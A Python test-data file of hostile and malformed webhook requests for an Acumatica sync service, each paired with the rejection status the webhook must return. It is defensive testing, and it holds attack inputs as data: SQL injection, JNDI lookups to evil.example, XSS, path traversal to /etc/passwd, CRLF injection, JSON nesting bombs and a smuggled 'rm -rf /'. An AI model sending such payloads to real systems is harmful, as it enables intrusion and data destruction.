"""Hostile and malformed posts for the webhook (data only; tests/functional/test_webhook_security.py runs them).

Each case: an id, the request headers (a list, so a header can be absent, misspelled or odd bytes), the raw body,
the status the webhook must answer, a substring its ``error`` reason must contain, and whether the request reaches
the Lambda at all (the Function URL refuses bodies over 6 MB itself, with its own message).
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

HEADER = "X-AMSync-Key"
CURRENT = "test-webhook-secret-1"
PREVIOUS = "test-webhook-secret-0"
SECRETS = (CURRENT, PREVIOUS)
JSON_CT = ("Content-Type", "application/json")
GOOD = [JSON_CT, (HEADER, CURRENT)]
NO_AUTH = "not authenticated"  # every 401 says only this: no header name, no hint (services/intake.UNAUTHENTICATED)
# What Acumatica's webhook destinations may send (it sets the header itself): accepted, each of them
ACCEPTED_CONTENT_TYPES = ["application/json", "application/json; charset=utf-8", "application/json; charset=UTF-8",
                          "Application/JSON", 'application/json; charset="utf-8"']
LIMIT = 256 * 1024  # Settings.max_push_bytes
LAMBDA_LIMIT = 6 * 1024 * 1024


@dataclass(frozen=True)
class Case:
    id: str
    headers: list[tuple[str, str | bytes]]
    body: bytes
    status: int
    reason: str  # a substring of the answer's "error" (or of the raw answer when reaches_lambda is False)
    reaches_lambda: bool = True


def order_row(nbr: str = "SOT00024", **extra: Any) -> dict[str, Any]:
    return {"OrderType": "SO", "OrderNbr": nbr, "Status": "Open", **extra}


def push(rows: Any = None, *, query: Any = "AMSync-SalesOrders", push_id: Any = "6f0c1f7e-0000-4000-8000-000000000001",
         **extra: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {"Inserted": [order_row()] if rows is None else rows, "Deleted": [], "Query": query,
                           "CompanyId": "Company", "Id": push_id, "TimeStamp": 638780593445170000,
                           "AdditionalInfo": {"PXPerformanceInfoStartTime": "03/20/2025 09:22:24"}}
    doc.update(extra)
    return {k: v for k, v in doc.items() if v is not _DROP}


_DROP = object()


def body(doc: Any) -> bytes:
    return json.dumps(doc).encode()


def with_secret(value: str | bytes, name: str = HEADER) -> list[tuple[str, str | bytes]]:
    return [JSON_CT, (name, value)]


def _valid() -> bytes:
    return body(push())


def _replace(old: str, new: str, doc: dict[str, Any] | None = None) -> bytes:
    """A valid body with a piece of its JSON text replaced (for what json.dumps cannot write)."""
    text = json.dumps(doc if doc is not None else push())
    assert old in text, old
    return text.replace(old, new, 1).encode()


def _nested(depth: int) -> dict[str, Any]:
    inner: Any = "x"
    for _ in range(depth):
        inner = {"k": inner}
    return inner  # type: ignore[no-any-return]


_PADDED = "X" * LIMIT

CASES: list[Case] = [
    # ---------------------------------------------------------------- the secret
    Case("secret-missing", [JSON_CT], _valid(), 401, NO_AUTH),
    Case("secret-empty", with_secret(""), _valid(), 401, NO_AUTH),
    Case("secret-wrong", with_secret("letmein"), _valid(), 401, NO_AUTH),
    Case("secret-uppercased", with_secret(CURRENT.upper()), _valid(), 401, NO_AUTH),
    Case("secret-previous-other-case", with_secret("Test-Webhook-Secret-0"), _valid(), 401, NO_AUTH),
    Case("secret-prefix", with_secret(CURRENT[:-1]), _valid(), 401, NO_AUTH),
    Case("secret-with-suffix", with_secret(CURRENT + "1"), _valid(), 401, NO_AUTH),
    Case("secret-both-comma-joined", with_secret(f"{CURRENT},{PREVIOUS}"), _valid(), 401, NO_AUTH),
    Case("secret-nbsp-padded", with_secret(f"\xa0{CURRENT}\xa0".encode("latin-1")), _valid(), 401, NO_AUTH),
    Case("secret-inner-space", with_secret(CURRENT.replace("-", " ", 1)), _valid(), 401, NO_AUTH),
    Case("secret-utf8-bytes", with_secret("tëst-webhook-secret-1".encode()), _valid(), 401, NO_AUTH),
    Case("secret-very-long", with_secret(CURRENT * 400), _valid(), 401, NO_AUTH),
    Case("secret-sql-injection", with_secret("' OR '1'='1"), _valid(), 401, NO_AUTH),
    Case("secret-in-authorization", with_secret(CURRENT, "Authorization"), _valid(), 401, NO_AUTH),
    Case("secret-as-bearer", with_secret(f"Bearer {CURRENT}", "Authorization"), _valid(), 401, NO_AUTH),
    Case("secret-in-x-api-key", with_secret(CURRENT, "X-Api-Key"), _valid(), 401, NO_AUTH),
    Case("secret-header-misspelled", with_secret(CURRENT, "X-AMSync_Key"), _valid(), 401, NO_AUTH),
    Case("secret-in-body-only", [JSON_CT], body(push(**{HEADER: CURRENT})), 401, NO_AUTH),
    Case("secret-missing-huge-body", [JSON_CT], b"{" + b" " * (LIMIT * 2) + b"}", 401, NO_AUTH),
    Case("secret-wrong-and-text-plain", [("Content-Type", "text/plain"), (HEADER, "letmein")], b"hello", 401, NO_AUTH),
    Case("secret-missing-no-content-type", [], b"", 401, NO_AUTH),
    # ---------------------------------------------------------------- content type (Acumatica sends application/json)
    Case("ct-missing", [(HEADER, CURRENT)], _valid(), 415, "no Content-Type"),
    Case("ct-curl-default-form", [("Content-Type", "application/x-www-form-urlencoded"), (HEADER, CURRENT)],
         _valid(), 415, "'application/x-www-form-urlencoded' is not supported"),
    Case("ct-text-plain", [("Content-Type", "text/plain"), (HEADER, CURRENT)], _valid(), 415, "not supported"),
    Case("ct-text-json", [("Content-Type", "text/json"), (HEADER, CURRENT)], _valid(), 415, "not supported"),
    Case("ct-xml", [("Content-Type", "application/xml"), (HEADER, CURRENT)], _valid(), 415, "not supported"),
    Case("ct-multipart", [("Content-Type", "multipart/form-data; boundary=b"), (HEADER, CURRENT)], _valid(), 415,
         "not supported"),
    Case("ct-octet-stream-binary", [("Content-Type", "application/octet-stream"), (HEADER, CURRENT)],
         b"\x00\xff" * 64, 415, "not supported"),
    Case("ct-jsonp", [("Content-Type", "application/jsonp"), (HEADER, CURRENT)], _valid(), 415, "not supported"),
    Case("ct-json-suffix", [("Content-Type", "application/merge-patch+json"), (HEADER, CURRENT)], _valid(), 415,
         "not supported"),
    Case("ct-empty", [("Content-Type", ""), (HEADER, CURRENT)], _valid(), 415, "not supported"),
    Case("ct-list", [("Content-Type", "application/json, text/plain"), (HEADER, CURRENT)], _valid(), 415,
         "not supported"),
    Case("ct-latin1-charset", [("Content-Type", "application/json; charset=iso-8859-1"), (HEADER, CURRENT)],
         _valid(), 415, "the body must be UTF-8"),
    Case("ct-utf16-charset", [("Content-Type", "application/json; charset=utf-16"), (HEADER, CURRENT)],
         json.dumps(push()).encode("utf-16"), 415, "the body must be UTF-8"),
    # ---------------------------------------------------------------- not JSON / not UTF-8
    Case("body-empty", GOOD, b"", 400, "not valid JSON"),
    Case("body-whitespace", GOOD, b" \r\n\t ", 400, "not valid JSON"),
    Case("json-truncated", GOOD, _valid()[:-7], 400, "not valid JSON"),
    Case("json-trailing-comma", GOOD, _valid()[:-1] + b",}", 400, "not valid JSON"),
    Case("json-single-quotes", GOOD, b"{'Query': 'AMSync-SalesOrders', 'Id': 'x'}", 400, "not valid JSON"),
    Case("json-unquoted-keys", GOOD, b'{Query: "AMSync-SalesOrders", Id: "x"}', 400, "not valid JSON"),
    Case("json-comment", GOOD, b"// push\n" + _valid(), 400, "not valid JSON"),
    Case("json-undefined", GOOD, _replace('"Company"', "undefined"), 400, "not valid JSON"),
    Case("json-trailing-garbage", GOOD, _valid() + b" xyz", 400, "not valid JSON"),
    Case("json-two-objects", GOOD, _valid() + _valid(), 400, "not valid JSON"),
    Case("body-plain-text", GOOD, b"hello", 400, "not valid JSON"),
    Case("body-xml", GOOD, b"<?xml version='1.0'?><push><Query>x</Query></push>", 400, "not valid JSON"),
    Case("body-form-encoded", GOOD, b"Query=AMSync-SalesOrders&Id=1", 400, "not valid JSON"),
    Case("json-nan", GOOD, _replace("638780593445170000", "NaN"), 400, "NaN"),
    Case("json-infinity-in-row", GOOD, _replace('"Open"', "Infinity"), 400, "Infinity"),
    Case("json-minus-infinity", GOOD, _replace("638780593445170000", "-Infinity"), 400, "-Infinity"),
    Case("json-huge-integer", GOOD, _replace("638780593445170000", "9" * 5000), 400, "not valid JSON"),
    Case("json-duplicate-top-key", GOOD, _replace('"Query": "AMSync-SalesOrders"',
                                                  '"Query": "AMSync-SalesOrders", "Query": "AMSync-Payments"'),
         400, "duplicate key 'Query'"),
    Case("json-duplicate-row-key", GOOD, _replace('"OrderNbr": "SOT00024"', '"OrderNbr": "SOT00024", "OrderNbr": "X1"'),
         400, "duplicate key 'OrderNbr'"),
    Case("json-bomb-arrays", GOOD, b"[" * 100_000 + b"]" * 100_000, 400, "nested"),
    Case("json-bomb-objects", GOOD, b'{"a":' * 40_000 + b"1" + b"}" * 40_000, 400, "nested"),
    Case("json-nested-additional-info", GOOD, body(push(AdditionalInfo=_nested(40))), 400, "nested"),
    Case("utf8-bom", GOOD, b"\xef\xbb\xbf" + _valid(), 400, "UTF-8"),
    Case("utf8-invalid-byte", GOOD, _valid().replace(b"Open", b"Op\xffn"), 400, "UTF-8"),
    Case("utf8-overlong-slash", GOOD, _valid().replace(b"Open", b"Op\xc0\xafn"), 400, "UTF-8"),
    Case("utf8-encoded-surrogate", GOOD, _valid().replace(b"Open", b"Op\xed\xa0\x80n"), 400, "UTF-8"),
    Case("utf8-truncated-sequence", GOOD, _valid().replace(b"Open", b"Op\xe2\x82"), 400, "UTF-8"),
    Case("utf16-body", GOOD, json.dumps(push()).encode("utf-16"), 400, "UTF-8"),
    Case("latin1-body", GOOD, json.dumps(push(rows=[order_row(Status="Geöffnet")]), ensure_ascii=False)
         .encode("latin-1"), 400, "UTF-8"),
    Case("json-lone-surrogate-escape", GOOD, _replace('"Open"', '"\\ud800"'), 400, "surrogate"),
    Case("json-nul-escape", GOOD, _replace('"Open"', '"Op\\u0000en"'), 400, "control character"),
    Case("json-noncharacter", GOOD, _replace('"Open"', '"\\uffff"'), 400, "U+FFFF"),
    Case("log-injection-query-nul", GOOD, body(push(query="AMSync-SalesOrders\u0000")), 400, "control character"),
    Case("log-injection-key-escape", GOOD, body(push(rows=[order_row(**{"Status\u001b[31m": "x"})])), 400,
         "control character (U+001B) in a key"),
    Case("json-float-overflow", GOOD, _replace('"Open"', "1e999"), 400, "not finite"),
    # ---------------------------------------------------------------- not an object at the top
    Case("top-array", GOOD, body([push()]), 422, "JSON object"),
    Case("top-string", GOOD, b'"AMSync-SalesOrders"', 422, "JSON object"),
    Case("top-number", GOOD, b"42", 422, "JSON object"),
    Case("top-null", GOOD, b"null", 422, "JSON object"),
    Case("top-true", GOOD, b"true", 422, "JSON object"),
    Case("top-empty-object", GOOD, b"{}", 422, "Query"),
    # ---------------------------------------------------------------- missing keys
    Case("missing-query", GOOD, body(push(query=_DROP)), 422, "Query: Field required"),
    Case("missing-id", GOOD, body(push(push_id=_DROP)), 422, "Id: Field required"),
    Case("missing-rows", GOOD, body(push(Inserted=_DROP, Deleted=_DROP)), 422, "no Inserted or Deleted rows"),
    Case("empty-rows", GOOD, body(push(rows=[])), 422, "no Inserted or Deleted rows"),
    Case("row-missing-ordernbr", GOOD, body(push(rows=[{"OrderType": "SO", "Status": "Open"}])), 422,
         "Inserted[0] has no OrderNbr or OrderID value"),
    Case("row-missing-ordertype", GOOD, body(push(rows=[{"OrderNbr": "SOT1"}])), 422, "has no OrderType value"),
    Case("row-blank-ordernbr", GOOD, body(push(rows=[order_row("    ")])), 422, "has no OrderNbr or OrderID"),
    Case("deleted-row-missing-key", GOOD, body(push(rows=[], Deleted=[{"OrderType": "SO"}])), 422,
         "Deleted[0] has no OrderNbr"),
    Case("second-row-missing-key", GOOD, body(push(rows=[order_row("SOT1"), {"OrderType": "SO"}])), 422,
         "Inserted[1] has no OrderNbr"),
    Case("shipment-row-missing-nbr", GOOD, body(push(rows=[{"OrderNbr": "SOT1"}], query="AMSync-Shipments")),
         422, "has no ShipmentNbr value"),
    Case("stock-row-missing-warehouse", GOOD, body(push(rows=[{"InventoryID": "WATER2809"}],
                                                       query="AMSync-StockAvailability")),
         422, "has no WarehouseID or SiteID value"),
    Case("payment-row-missing-refnbr", GOOD, body(push(rows=[{"Type": "Payment", "OrderNbr": "SOT1"}],
                                                      query="AMSync-Payments")), 422, "has no ReferenceNbr value"),
    # ---------------------------------------------------------------- wrong types
    Case("query-number", GOOD, body(push(query=42)), 422, "Query"),
    Case("query-list", GOOD, body(push(query=["AMSync-SalesOrders"])), 422, "Query"),
    Case("query-null", GOOD, body(push(query=None)), 422, "Query"),
    Case("query-nosql-object", GOOD, body(push(query={"$ne": None})), 422, "Query"),
    Case("query-bool", GOOD, body(push(query=True)), 422, "Query"),
    Case("query-empty", GOOD, body(push(query="")), 422, "Query"),
    Case("query-too-long", GOOD, body(push(query="Q" * 201)), 422, "Query"),
    Case("id-empty", GOOD, body(push(push_id="")), 422, "Id"),
    Case("id-too-long", GOOD, body(push(push_id="a" * 101)), 422, "Id"),
    Case("id-object", GOOD, body(push(push_id={"$gt": ""})), 422, "Id"),
    Case("id-number", GOOD, body(push(push_id=12345)), 422, "Id"),
    Case("id-null", GOOD, body(push(push_id=None)), 422, "Id"),
    Case("id-sql-injection", GOOD, body(push(push_id="1'; DROP TABLE bindings;--")), 422, "Id"),
    Case("id-crlf", GOOD, body(push(push_id="abc\r\nSet-Cookie: x=1")), 422, "Id"),
    Case("id-rtl-override", GOOD, body(push(push_id="abc\u202edef")), 422, "Id"),
    Case("timestamp-negative", GOOD, body(push(TimeStamp=-1)), 422, "TimeStamp"),
    Case("timestamp-float", GOOD, body(push(TimeStamp=6.3878e17)), 422, "TimeStamp"),
    Case("timestamp-abc", GOOD, body(push(TimeStamp="abc")), 422, "TimeStamp"),
    Case("timestamp-bool", GOOD, body(push(TimeStamp=True)), 422, "TimeStamp"),
    Case("timestamp-negative-string", GOOD, body(push(TimeStamp="-5")), 422, "TimeStamp"),
    Case("timestamp-arabic-digits", GOOD, body(push(TimeStamp="١٢٣")), 422, "TimeStamp"),
    Case("timestamp-over-int64", GOOD, body(push(TimeStamp=2**63)), 422, "TimeStamp"),
    Case("timestamp-object", GOOD, body(push(TimeStamp={"ticks": 1})), 422, "TimeStamp"),
    Case("companyid-number", GOOD, body(push(CompanyId=7)), 422, "CompanyId"),
    Case("additionalinfo-list", GOOD, body(push(AdditionalInfo=["x"])), 422, "AdditionalInfo"),
    Case("inserted-object", GOOD, body(push(rows=order_row())), 422, "Inserted"),
    Case("inserted-string", GOOD, body(push(rows="SOT00024")), 422, "Inserted"),
    Case("inserted-null", GOOD, body(push(rows=None, Inserted=None)), 422, "Inserted"),
    Case("deleted-number", GOOD, body(push(Deleted=5)), 422, "Deleted"),
    Case("row-string", GOOD, body(push(rows=["SO SOT00024"])), 422, "Inserted.0"),
    Case("row-number", GOOD, body(push(rows=[24])), 422, "Inserted.0"),
    Case("row-null", GOOD, body(push(rows=[None])), 422, "Inserted.0"),
    Case("row-list", GOOD, body(push(rows=[["SO", "SOT00024"]])), 422, "Inserted.0"),
    Case("row-nested-object-value", GOOD, body(push(rows=[order_row(Customer={"CustomerID": "AACUSTOMER"})])),
         422, "Inserted.0.Customer"),
    Case("row-list-value", GOOD, body(push(rows=[order_row(Lines=[1, 2])])), 422, "Inserted.0.Lines"),
    Case("key-value-object", GOOD, body(push(rows=[{"OrderType": "SO", "OrderNbr": {"$ne": None}}])), 422,
         "Inserted.0.OrderNbr"),
    Case("key-value-bool", GOOD, body(push(rows=[{"OrderType": "SO", "OrderNbr": True}])), 422,
         "OrderNbr value must be text"),
    Case("key-value-float", GOOD, body(push(rows=[{"OrderType": "SO", "OrderNbr": 24.5}])), 422,
         "OrderNbr value must be text"),
    Case("unknown-top-scalar", GOOD, body(push(Foo="bar")), 422, "Foo: Extra inputs are not permitted"),
    Case("two-row-lists", GOOD, body(push(Inserted=_DROP, Deleted=_DROP, orders=[order_row()], lines=[{}])),
         422, "more than one row list"),
    # ---------------------------------------------------------------- sizes
    Case("body-over-limit", GOOD, body(push(rows=[order_row(Note=_PADDED)])), 413, "over the 262144-byte limit"),
    Case("body-over-limit-not-json", GOOD, b"A" * (LIMIT + 1), 413, "over the 262144-byte limit"),
    Case("body-over-lambda-6mb", GOOD, b"{" + b" " * LAMBDA_LIMIT + b"}", 413, "smaller than 6291456",
         reaches_lambda=False),
    Case("too-many-rows", GOOD, body(push(rows=[order_row(f"S{i}") for i in range(1001)])), 422,
         "more than 1000 rows"),
    Case("row-too-many-columns", GOOD, body(push(rows=[order_row(**{f"C{i}": i for i in range(300)})])), 422,
         "more than 200 columns"),
    Case("row-too-big", GOOD, body(push(rows=[order_row(Note="n" * 20_000)])), 422, "bytes (limit"),
    Case("column-name-too-long", GOOD, body(push(rows=[order_row(**{"C" * 500: 1})])), 422, "column name"),
    # ---------------------------------------------------------------- unknown queries
    Case("query-unknown", GOOD, body(push(query="AMSync-Customers")), 422, "unknown query 'AMSync-Customers'"),
    Case("query-wrong-case", GOOD, body(push(query="amsync-salesorders")), 422, "unknown query"),
    Case("query-sql-injection", GOOD, body(push(query="x'; DROP TABLE settings;--")), 422, "unknown query"),
    Case("query-jndi", GOOD, body(push(query="${jndi:ldap://evil.example/a}")), 422, "unknown query"),
    Case("query-xss", GOOD, body(push(query="<script>alert(1)</script>")), 422, "unknown query"),
    Case("query-zero-width", GOOD, body(push(query="AMSync-Sales\u200bOrders")), 422, "unknown query"),
    Case("query-rtl-override", GOOD, body(push(query="\u202eAMSync-SalesOrders")), 422, "unknown query"),
    Case("query-cyrillic-homoglyph", GOOD, body(push(query="AMSync-Sаles0rders")), 422, "unknown query"),
    Case("query-emoji", GOOD, body(push(query="🔥💥")), 422, "unknown query"),
    Case("query-log-injection-newline", GOOD, body(push(query="AMSync-SalesOrders\n2025-01-01 INFO accepted")),
         422, "unknown query 'AMSync-SalesOrders\\n2025-01-01 INFO accepted'"),
    # ---------------------------------------------------------------- injection and unicode in keys and columns
    Case("key-sql-injection", GOOD, body(push(rows=[order_row("SOT1'; DROP TABLE orders;--")])), 422,
         "OrderNbr value"),
    Case("key-jndi", GOOD, body(push(rows=[order_row("${jndi:ldap://evil.example/a}")])), 422, "OrderNbr value"),
    Case("key-nosql-operator-text", GOOD, body(push(rows=[order_row('{"$gt": ""}')])), 422, "OrderNbr value"),
    Case("key-crlf", GOOD, body(push(rows=[order_row("SOT1\r\nINFO forged line")])), 422, "OrderNbr value"),
    Case("key-path-traversal", GOOD, body(push(rows=[order_row("../../etc/passwd")])), 422, "OrderNbr value"),
    Case("key-slash", GOOD, body(push(rows=[{"OrderType": "SO/X", "OrderNbr": "SOT1"}])), 422, "OrderType value"),
    Case("key-too-long", GOOD, body(push(rows=[order_row("S" * 65)])), 422, "OrderNbr value"),
    Case("key-zero-width", GOOD, body(push(rows=[order_row("SOT\u200b00024")])), 422, "OrderNbr value"),
    Case("key-rtl-override", GOOD, body(push(rows=[order_row("SOT\u202e42000")])), 422, "OrderNbr value"),
    Case("key-emoji", GOOD, body(push(rows=[{"InventoryID": "WATER🔥", "WarehouseID": "RETAIL"}],
                                      query="AMSync-StockAvailability")), 422, "InventoryID value"),
    Case("key-fullwidth", GOOD, body(push(rows=[order_row("ＳＯＴ００２４")])), 422, "OrderNbr value"),
    Case("key-combining", GOOD, body(push(rows=[order_row("SOT0002\u0334\u03364")])), 422, "OrderNbr value"),
    Case("payment-order-injection", GOOD, body(push(rows=[{"Type": "Payment", "ReferenceNbr": "P1",
                                                           "OrderType": "SO", "OrderNbr": "SO1' OR 1=1"}],
                                                     query="AMSync-Payments")), 422, "OrderNbr value"),
    Case("column-crlf", GOOD, body(push(rows=[order_row(**{"Status\r\nX-Injected": "1"})])), 422, "column name"),
    Case("column-dollar", GOOD, body(push(rows=[order_row(**{"$where": "sleep(1000)"})])), 422, "column name"),
    Case("column-empty", GOOD, body(push(rows=[order_row(**{"": "x"})])), 422, "column name"),
    Case("column-zero-width", GOOD, body(push(rows=[order_row(**{"Order\u200bNbr": "x"})])), 422, "column name"),
    Case("walkthrough-variant-bad-key", GOOD, body({"orders": [{"OrderID": "SOT1;rm -rf /", "OrderType": "SO"}],
                                                   "Query": "SALESORDER STATUS", "CompanyId": "Company",
                                                   "ID": "b5344897-027e-4d59-b5c3-1bd09f47b9f9",
                                                   "Time Stamp": "133428739107273074"}), 422, "OrderID value"),
]
